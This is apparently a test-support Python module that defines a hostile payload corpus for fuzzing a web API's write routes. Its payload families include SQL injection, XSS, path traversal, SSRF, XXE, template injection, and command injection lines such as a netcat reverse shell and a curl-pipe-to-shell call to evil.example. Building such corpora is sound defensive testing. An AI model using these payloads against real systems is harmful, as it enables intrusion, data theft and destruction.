"""The hostile payload corpus: strings and structures that have broken web APIs before.

Each payload is sent into every field of every write route by test_hostile_payloads.py. The corpus
is built from families so that it stays readable and each family can be extended on its own.
"""

from __future__ import annotations

from typing import Any


class RawJSON(str):
    """A payload that is already JSON text: nesting too deep for Python to serialise, or a number
    Python would never write (1e400, a 5,000-digit integer)."""


SQL_INJECTION = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE governance_agent; --",
    "1; DELETE FROM auth_user",
    "' UNION SELECT username, password FROM auth_user --",
    "admin'--",
    "1' AND SLEEP(5)--",
    "1) OR pg_sleep(5)--",
    "'; SELECT pg_sleep(5); --",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "%' AND 1=1 AND '%'='",
    "1 OR 1=1",
    "' OR 'x'='x' /*",
    "'||(SELECT load_extension('x'))||'",
    "1'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "\\'; DROP TABLE bugs_bug; --",
    "' OR EXISTS(SELECT * FROM sqlite_master) --",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "') OR ('a'='a",
    "1; COPY (SELECT '') TO PROGRAM 'id'",
    "'; EXEC xp_cmdshell('dir'); --",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
    "1' ORDER BY 100--",
    "' AND extractvalue(1, concat(0x7e, version()))--",
    "';WAITFOR DELAY '0:0:5'--",
    "' OR '' = '",
    "1 AND (SELECT COUNT(*) FROM auth_user) > 0",
    "id=1&id=2",
    "'; UPDATE governance_agent SET maturity='AUTONOMOUS'; --",
]

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(document.cookie)",
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<embed src=javascript:alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
]

PATH_TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "file:///etc/passwd",
    "/proc/self/environ",
    "../../manage.py",
    "~/.ssh/id_rsa",
    "C:\\Windows\\System32\\config\\SAM",
    "\\\\evil.example\\share\\x",
    "/dev/zero",
    "..;/..;/etc/passwd",
    "%c0%ae%c0%ae/etc/passwd",
]

COMMAND_INJECTION = [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "`id`",
    "$(id)",
    "; rm -rf / --no-preserve-root",
    "|| curl http://evil.example",
    "\n/bin/sh -c id",
    "$(curl evil.example|sh)",
    "; nc -e /bin/sh evil.example 4444",
    "tests/test_x.py; touch /tmp/pwned",
    "tests/test_x.py::test_a --rootdir=/",
    "-o addopts=--pdb",
    "--basetemp=/",
    "-p evil_plugin",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ request.META }}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{{config.items()}}",
    "${{<%[%'\"}}%\\.",
    "*{7*7}",
]

UNICODE_TRICKS = [
    "\u202eevil\u202c",
    "admin\u200b",
    "\ufeffBOM",
    "ａｄｍｉｎ",
    "Ω≈ç√∫˜µ≤≥÷",
    "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
    "👩‍💻🔥💯",
    "\u0301\u0301\u0301\u0301",
    "Z̴̡̪̫͖̥̔̿̃̈̏̎͠͝á̸̡̪̯ͯ͛̍͌l̶̢̯̞g̸o̵",
    "\u2028\u2029",
    "\ud7ff",
    "İstanbul ß ǅ",
    "ltr\u200erlt\u200f",
    "\x1b[31mred\x1b[0m",
    "\r\nSet-Cookie: evil=1",
    "\x7f\x08\x07",
    "\ud800",
    "lone \udfff low",
    "\ud83d",
]

NULL_BYTES = [
    "\x00",
    "abc\x00def",
    "file.txt\x00.png",
    "%00",
    "\\u0000",
    "\x00' OR 1=1 --",
]

NUMERIC_AND_TYPE_CONFUSION: list[Any] = [
    -1,
    0,
    2**63,
    -(2**63) - 1,
    1e308,
    -1e308,
    float("1e-320"),
    "NaN",
    "Infinity",
    "-0",
    "1e9999",
    True,
    False,
    None,
    [],
    {},
    ["a", "b"],
    {"$gt": ""},
    {"__proto__": {"admin": True}},
    "0x41",
    RawJSON("1e400"),
    RawJSON("-1e400"),
    RawJSON("1" + "0" * 5_000),
]

OVERSIZED = [
    "A" * 10_000,
    "A" * 100_000,
    "💥" * 20_000,
    "<" * 50_000,
    "a " * 50_000,
]


SCRIPT_BLOCKLIST_BYPASSES = [
    "eval('1')",
    "EvAl('1')",
    "window['ev'+'al']('1')",
    "new Function('return 1')()",
    "Function('x')()",
    "setTimeout('alert(1)', 0)",
    'setInterval("alert(1)", 10)',
    "document.cookie",
    "DOCUMENT.COOKIE",
    "localStorage.getItem('t')",
    "sessionStorage['t']",
    "window.location = 'http://evil.example'",
    "top.location.href='x'",
    "parent.postMessage('x', '*')",
    "fetch('http://evil.example')",
    "new XMLHttpRequest()",
    "navigator.sendBeacon('http://evil.example', 'x')",
    "document.write('<script>x</script>')",
    "document.createElement('script')",
    "el.innerHTML = '<img src=x onerror=alert(1)>'",
    "document['cookie']",
    "window [ 'location' ]",
]

SSRF_AND_URLS = [
    "http://127.0.0.1:6379/",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "http://[::1]:5432/",
    "http://0x7f000001/",
    "dict://127.0.0.1:11211/stat",
    "ftp://evil.example/x",
    "http://evil.example@127.0.0.1/",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

XML_AND_FORMATS = [
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>',
    "<![CDATA[<script>alert(1)</script>]]>",
    "%s%s%s%s%s%n",
    "{0.__class__}",
    "%(password)s",
    "{__import__('os').system('id')}",
    "\\x27\\x3b",
    "]]>",
    '{"a": 1, "a": 2}',
]

NOSQL_LDAP_HEADER = [
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    '{"$where": "sleep(1000)"}',
    "';return true;var x='",
    "X-Forwarded-For: 127.0.0.1",
    "Host: evil.example",
    "foo\r\nX-Injected: 1",
    "%0d%0aSet-Cookie:%20evil=1",
    "Bearer eyJhbGciOiJub25lIn0.eyJ1c2VyX2lkIjoxfQ.",
    "BUG-001\nFixes BUG-002",
]

REGEX_DOS = [
    "a" * 5_000 + "!",
    "(" * 1_000,
    "((a+)+)+$",
    "\\" * 2_000,
    "." * 10_000,
]


def _nested(depth: int) -> RawJSON:
    return RawJSON('{"a": ' * depth + '"x"' + "}" * depth)


def _nested_list(depth: int) -> RawJSON:
    return RawJSON("[" * depth + '"x"' + "]" * depth)


DEEPLY_NESTED = [_nested(50), _nested(500), _nested(5_000), _nested_list(1_000), _nested_list(10_000)]

FAMILIES: dict[str, list[Any]] = {
    "sql_injection": SQL_INJECTION,
    "xss": XSS,
    "path_traversal": PATH_TRAVERSAL,
    "command_injection": COMMAND_INJECTION,
    "template_injection": TEMPLATE_INJECTION,
    "unicode": UNICODE_TRICKS,
    "null_bytes": NULL_BYTES,
    "type_confusion": NUMERIC_AND_TYPE_CONFUSION,
    "oversized": OVERSIZED,
    "deeply_nested": DEEPLY_NESTED,
    "script_blocklist_bypasses": SCRIPT_BLOCKLIST_BYPASSES,
    "ssrf_and_urls": SSRF_AND_URLS,
    "xml_and_formats": XML_AND_FORMATS,
    "nosql_ldap_header": NOSQL_LDAP_HEADER,
    "regex_dos": REGEX_DOS,
}


def corpus() -> list[tuple[str, Any]]:
    """Every payload with an id naming its family and position."""
    return [(f"{family}-{index}", payload) for family, payloads in FAMILIES.items() for index, payload in enumerate(payloads)]
